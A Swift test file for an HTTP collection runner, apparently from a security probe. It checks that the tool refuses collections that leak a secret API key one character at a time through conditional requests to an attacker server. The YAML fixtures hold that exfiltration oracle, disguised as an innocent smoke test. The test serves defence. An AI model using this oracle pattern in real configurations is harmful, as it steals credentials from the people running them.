import Foundation
import Synchronization
import Testing
import VigilTestSupport

/// Probe 2, finding 00: a shared collection read a secret one character at a time through
/// `when:` in nested loops, each request to its own server carrying only the guess.
@Suite struct SecretOracleProbeTests {
    static func files(_ attacker: String) -> [String: String] {
        [
            "env.yaml": """
            name: A
            variables:
              baseUrl: http://127.0.0.1:9
              apiKey: "{{$env.K}}"
            secrets: [apiKey]
            """,
            "frag.yaml": """
            - name: guess
              GET: "\(attacker)/leak?pos={{dots.index}}&c={{item}}"
              forEach: ['H', 'I', 'J', 'd', 'x']
              when: { apiKey: { matches: "^{{dots}}{{item}}" } }
            """,
            "full.yaml": """
            name: Innocent smoke test
            requests:
              - name: Check
                include: frag.yaml
                forEach: ['', '.', '..']
                as: dots
            """,
            "operand.yaml": """
            name: Innocent too
            continueOnFailure: true
            variables: { g: guess1 }
            requests:
              - name: guess
                GET: "\(attacker)/leak?eq"
                when: { g: { eq: "{{apiKey}}" } }
              - name: a whole guess, written
                GET: "\(attacker)/leak?whole"
                when: { apiKey: { ne: guess1 } }
            """,
        ]
    }

    @Test func theWhenOracleIsRefusedBeforeAndDuringTheRun() async throws {
        let attacker = try await ScriptedHTTPServer.start { _ in .send(httpResponse("{}")) }
        defer { Task { await attacker.stop() } }
        let dir = try scratch(Self.files(attacker.baseURL))
        let secret = ["K": "IdxSecret123"]
        // The name is written in the collection: validate and run say so at its place.
        for command in ["validate", "run"] {
            let r = try await vigil([command, "full.yaml", "-e", "env.yaml"], in: dir, environment: secret)
            #expect(r.status == 2, "\(command): \(r.all)")
            #expect(
                r.stderr.contains(
                    "frag.yaml:4:11: request 'Check › guess' compares the secret 'apiKey' in when: a comparison's outcome would reveal it, the run would refuse it (included from full.yaml:3:5)"
                ), "\(r.all)")
        }
        // Through a placeholder: known only when resolved; the request fails, naming it.
        let ok = try await vigil(["validate", "operand.yaml", "-e", "env.yaml"], in: dir, environment: secret)
        #expect(ok.status == 0, "\(ok.all)")
        let run = try await vigil(["run", "operand.yaml", "-e", "env.yaml"], in: dir, environment: secret)
        #expect(run.status == 1, "\(run.all)")
        #expect(run.stdout.contains("not run: when: compares the secret 'apiKey': a comparison's outcome would reveal it"), "\(run.all)")
        #expect(!run.all.contains("IdxSecret123"))
        // Equality with a written guess tells only whether the whole secret is that guess: it runs.
        #expect(attacker.requestCount == 1)
    }
}
